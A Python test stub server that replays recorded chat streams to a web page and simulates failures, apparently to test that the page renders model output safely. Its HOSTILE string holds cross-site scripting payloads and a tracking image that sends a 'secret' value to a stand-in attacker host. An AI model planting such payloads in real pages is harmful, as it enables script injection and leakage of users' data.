"""A server that replays recorded streams to the page, in the real server's form, and misbehaves when asked to:
"hostile", "refuse", "break", "cut", "part" and "endless" are such questions.

`python tests/page/stub.py` serves it for work on the page.
"""

from __future__ import annotations

import json
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import dartspec

PAGE = Path(dartspec.__file__).parent / "serve" / "page"
RECORDED = json.loads((Path(__file__).parent / "recorded.json").read_text(encoding="utf-8"))
TYPES = {".html": "text/html; charset=utf-8", ".js": "text/javascript", ".css": "text/css", ".svg": "image/svg+xml"}

HOSTILE = """<script>window.hacked = 1</script><img src=x onerror="window.hacked = 2">

[click](javascript:window.hacked=3) [data](data:text/html,<script>hacked=4</script>) [ok](https://example.org/a?b=1)
![track](https://evil.example/pixel.png?said=secret) <https://example.org/"onmouseover="hacked=5>

```html"><script>window.hacked=6</script>
</code></pre><script>window.hacked = 7</script>
```

| a | b |
|---|---|
| <svg onload=window.hacked=8> | `<b>` |

<style>body{display:none}</style><iframe src="/page/icon.svg"></iframe><form action=https://evil.example><input name=x>
"""


class Stub(ThreadingHTTPServer):
    """Serves until `shutdown`. requests: the bodies of all questions. gone: set once a client went away half-way."""

    daemon_threads = True

    def __init__(self, port: int = 0, delay_s: float = 0.0) -> None:
        super().__init__(("127.0.0.1", port), _Handler)
        self.delay_s = delay_s
        self.requests: list[dict[str, Any]] = []
        self.gone = threading.Event()
        self.key: str | None = None
        self.not_ready = 0  # so many times it will say that it is still starting
        self.info = dict(RECORDED["info"])

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}/"


class _Handler(BaseHTTPRequestHandler):
    server: Stub
    protocol_version = "HTTP/1.0"  # the end of the connection is the end of the answer

    def log_message(self, *_: Any) -> None:
        pass

    def do_GET(self) -> None:
        path = self.path.split("?")[0]
        if path == "/dartspec/info":
            if self.server.not_ready:
                self.server.not_ready -= 1
                return self._error(503, "the server is starting: reading the weights")
            if self.server.key and self.headers.get("Authorization") != f"Bearer {self.server.key}":
                return self._error(401, "an API key is needed")
            return self._send(200, "application/json", json.dumps(self.server.info).encode())
        file = PAGE / ("index.html" if path == "/" else path.removeprefix("/page/"))
        if file.parent != PAGE or not file.is_file():
            return self._error(404, f"there is nothing at {path}")
        self._send(200, TYPES[file.suffix], file.read_bytes())

    def do_POST(self) -> None:
        body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        self.server.requests.append(body)
        said = body["messages"][-1]["content"]
        if said == "refuse":
            return self._error(429, "8 requests are waiting, the most that may: send this one again later", wait=2)
        self._head(200, "text/event-stream")
        try:
            for event in self._events(said, body):
                self.wfile.write(b"data: " + json.dumps(event).encode() + b"\n\n" if event else b"data: [DONE]\n\n")
                self.wfile.flush()
                time.sleep(self.server.delay_s)
        except (BrokenPipeError, ConnectionResetError):
            self.server.gone.set()

    def _events(self, said: str, body: dict[str, Any]) -> Iterator[dict[str, Any] | None]:
        drafter = body["dartspec"]["drafter"]
        if said == "hostile":
            yield from (piece(HOSTILE[i : i + 7]) for i in range(0, len(HOSTILE), 7))
            yield piece("", finish="stop")
            yield None
            return
        streams = RECORDED["streams"].get(said) or next(iter(RECORDED["streams"].values()))
        chunks = streams["plain" if drafter == "plain" else RECORDED["info"]["default_drafter"]]
        if said == "part" and drafter == "plain":  # what must never happen, and be shown if it does
            chunks = [*chunks[:10], piece(" otherwise"), *chunks[10:]]
        while said == "endless":
            for chunk in chunks[1:10]:
                yield chunk
                time.sleep(0.01)
        if said in ("break", "cut"):
            yield from chunks[:6]
            if said == "break":
                yield {"error": {"message": "the drafter took the night off", "type": "server_error"}}
            return
        yield from chunks
        yield None

    def _error(self, status: int, message: str, wait: int | None = None) -> None:
        error = {"error": {"message": message, "type": "error", "param": None, "code": None}}
        self._send(status, "application/json", json.dumps(error).encode(), wait)

    def _head(self, status: int, kind: str, wait: int | None = None) -> None:
        self.send_response(status)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Security-Policy", "default-src 'self'; base-uri 'none'; form-action 'none'")
        self.send_header("Cache-Control", "no-store")
        if wait:
            self.send_header("Retry-After", str(wait))
        self.end_headers()

    def _send(self, status: int, kind: str, body: bytes, wait: int | None = None) -> None:
        self._head(status, kind, wait)
        self.wfile.write(body)


def piece(text: str, finish: str | None = None) -> dict[str, Any]:
    """A chunk without a round."""
    return {"choices": [{"index": 0, "delta": {"content": text}, "finish_reason": finish}]}


if __name__ == "__main__":
    import sys

    with Stub(int(sys.argv[1]) if len(sys.argv) > 1 else 20800, delay_s=0.03) as stub:
        print(stub.url)
        stub.serve_forever()
